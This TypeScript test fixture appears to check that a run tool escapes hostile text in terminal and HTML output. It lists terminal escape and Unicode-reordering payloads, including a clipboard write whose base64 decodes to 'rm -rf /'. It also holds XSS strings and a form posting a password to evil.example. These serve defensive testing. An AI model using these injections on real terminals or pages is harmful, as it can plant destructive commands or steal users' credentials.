import type { RunEvent } from '../../src/model/run/event.ts';

/** What a hostile host, inventory or playbook may put into any text. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'OSC 52, which writes the clipboard': '\u001b]52;c;cm0gLXJmIC8=\u0007',
  'OSC 0, which sets the title': '\u001b]0;all is well\u001b\\',
  'OSC 8, a link that leads elsewhere': '\u001b]8;;http://evil.example\u001b\\node-1\u001b]8;;\u001b\\',
  'a cursor that moves up and overwrites': '\u001b[5A\u001b[2Kok',
  'a screen that is cleared': '\u001b[2J\u001b[H',
  'a colour of its own': '\u001b[32mok\u001b[0m',
  'a terminal that is asked to answer': '\u001b[6n\u001bZ\u001b[c',
  'a device control string': '\u001bP+q544e\u001b\\',
  'the one-byte CSI of C1': '\u009b2J',
  'the one-byte OSC of C1': '\u009d52;c;eA==\u009c',
  'a carriage return that overwrites the line': 'FAILED\rok    ',
  'a backspace that eats what was there': 'rolled-back\b\b\b\b\b\b\b\b\b\b\bok',
  'a line of its own': 'x\n  node-9  changed      all is well',
  'a vertical tab and a form feed': 'a\u000bb\u000cc',
  'NUL and DEL': 'a\u0000b\u007fc',
  'text that is read from right to left': 'user\u202e gpj.exe',
  isolates: '\u2066// \u2069admin\u2066',
  'a line separator': 'a\u2028b\u2029c',
  'text without a width': 'node\u200b-1\ufeff',
  'text in tags': 'a\u{e0041}\u{e0042}',
};

/** What may not be in a line: controls, and what reorders or hides text. Tabs stay in file contents. */
export const FORBIDDEN: RegExp = /(?![\t\u200c\u200d])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

/** Puts a text into every string of every event but those that the program itself chooses. */
export function poisoned(events: readonly RunEvent[], text: string): readonly RunEvent[] {
  const ours = new Set(['type', 'command', 'kind', 'section', 'outcome', 'by', 'severity', 'at']);
  const poison = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return ours.has(key) ? value : value + text;
    if (Array.isArray(value)) return value.map((one) => poison(one, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poison(one, name)]));
  };
  return poison(events, '') as readonly RunEvent[];
}

/** What would become a part of a page if it were not escaped. */
export const HTML_PAYLOADS: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'an image that runs something': '<img src=x onerror=alert(1)>',
  'the end of an attribute': '" onmouseover="alert(1)" x="',
  'the end of a quoted attribute': "' onfocus='alert(1)' autofocus='",
  'the end of the style sheet': '</style><script>alert(1)</script>',
  'the end of the title': '</title><script>alert(1)</script>',
  'the end of a drawing': '</title></rect></svg><script>alert(1)</script>',
  'the end of a block of text': '</pre></details></section><h1>all is well</h1>',
  'a comment': '<!-- ',
  'an entity': '&lt;script&gt;&#x3c;script&#x3e;',
  'a link that runs something': 'javascript:alert(1)',
  'a link': '<a href="https://evil.example">node-1</a>',
  'a form': '<form action="https://evil.example"><input name=password>',
  'a base': '<base href="https://evil.example/">',
  'a policy of its own': '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  'a style': '<style>body{display:none}</style>',
  'a template': '{{ 7 * 7 }}<%= 7 * 7 %>',
  'a broken surrogate': '\ud800<',
};
